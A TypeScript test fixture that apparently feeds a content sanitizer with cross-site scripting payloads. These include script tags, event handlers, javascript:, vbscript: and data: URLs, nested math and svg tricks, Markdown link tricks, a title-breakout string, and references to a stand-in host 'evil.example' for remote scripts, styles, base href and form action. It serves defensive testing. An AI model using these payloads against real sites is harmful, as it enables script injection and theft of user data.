/** Where the scripts of the payloads would leave their mark, and the host that they would speak to. */
export const mark = 'xssRan';
export const evilHost = 'evil.example';

const run = `alert(1);window.${mark}=1`;
const data = `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`;

/** Ways to bring script, style or another address into a page through content (docs/faults.md F27). */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<script src="https://${evilHost}/x.js"></script>`,
  '<script src="/favicon.svg"></script>',
  `<img src=x onerror="${run}">`,
  `<img src="x" onerror=${run.replace(/\s/g, '')}//`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">math</math>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<body onload="${run}">`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="${data}"></object><embed src="${data}">`,
  `<a href="javascript:${run}">press-javascript</a>`,
  `<a href="jav&#x09;ascript:${run}">press-tab</a>`,
  `<a href="JaVaScRiPt:${run}">press-case</a>`,
  `<a href="${data}">press-data</a>`,
  `<a href="vbscript:${run}">press-vbscript</a>`,
  `<a href="//${evilHost}/x" onclick="${run}">press-handler</a>`,
  `<style>@import url(https://${evilHost}/x.css);body{background:url(https://${evilHost}/x.png)}</style>`,
  `<p style="background:url(https://${evilHost}/y.png);position:fixed;inset:0">style</p>`,
  `<link rel="stylesheet" href="https://${evilHost}/z.css">`,
  `<base href="https://${evilHost}/">`,
  `<form action="https://${evilHost}/"><button>send</button></form>`,
  `<template><script>${run}</script></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `</div></script><!--><script>${run}</script>-->`,
];

/** The same through Markdown's own signs. */
export const markdownPayloads: readonly string[] = [
  `[press-md-javascript](javascript:${run})`,
  `[press-md-data](${data})`,
  '[press-md-entity](&#106;avascript:alert(1))',
  `<javascript:${run}>`,
  `[press-md-title](https://${evilHost} "x\\" onmouseover=\\"${run}")`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `| a |\n| --- |\n| <img src=x onerror="${run}"> |`,
];

/** For titles and summaries, which also stand in the head, in JSON-LD and in the data block. */
export const linePayload = `"'></title></script><script>${run}</script><img src=x onerror="${run}">{{x}}`;
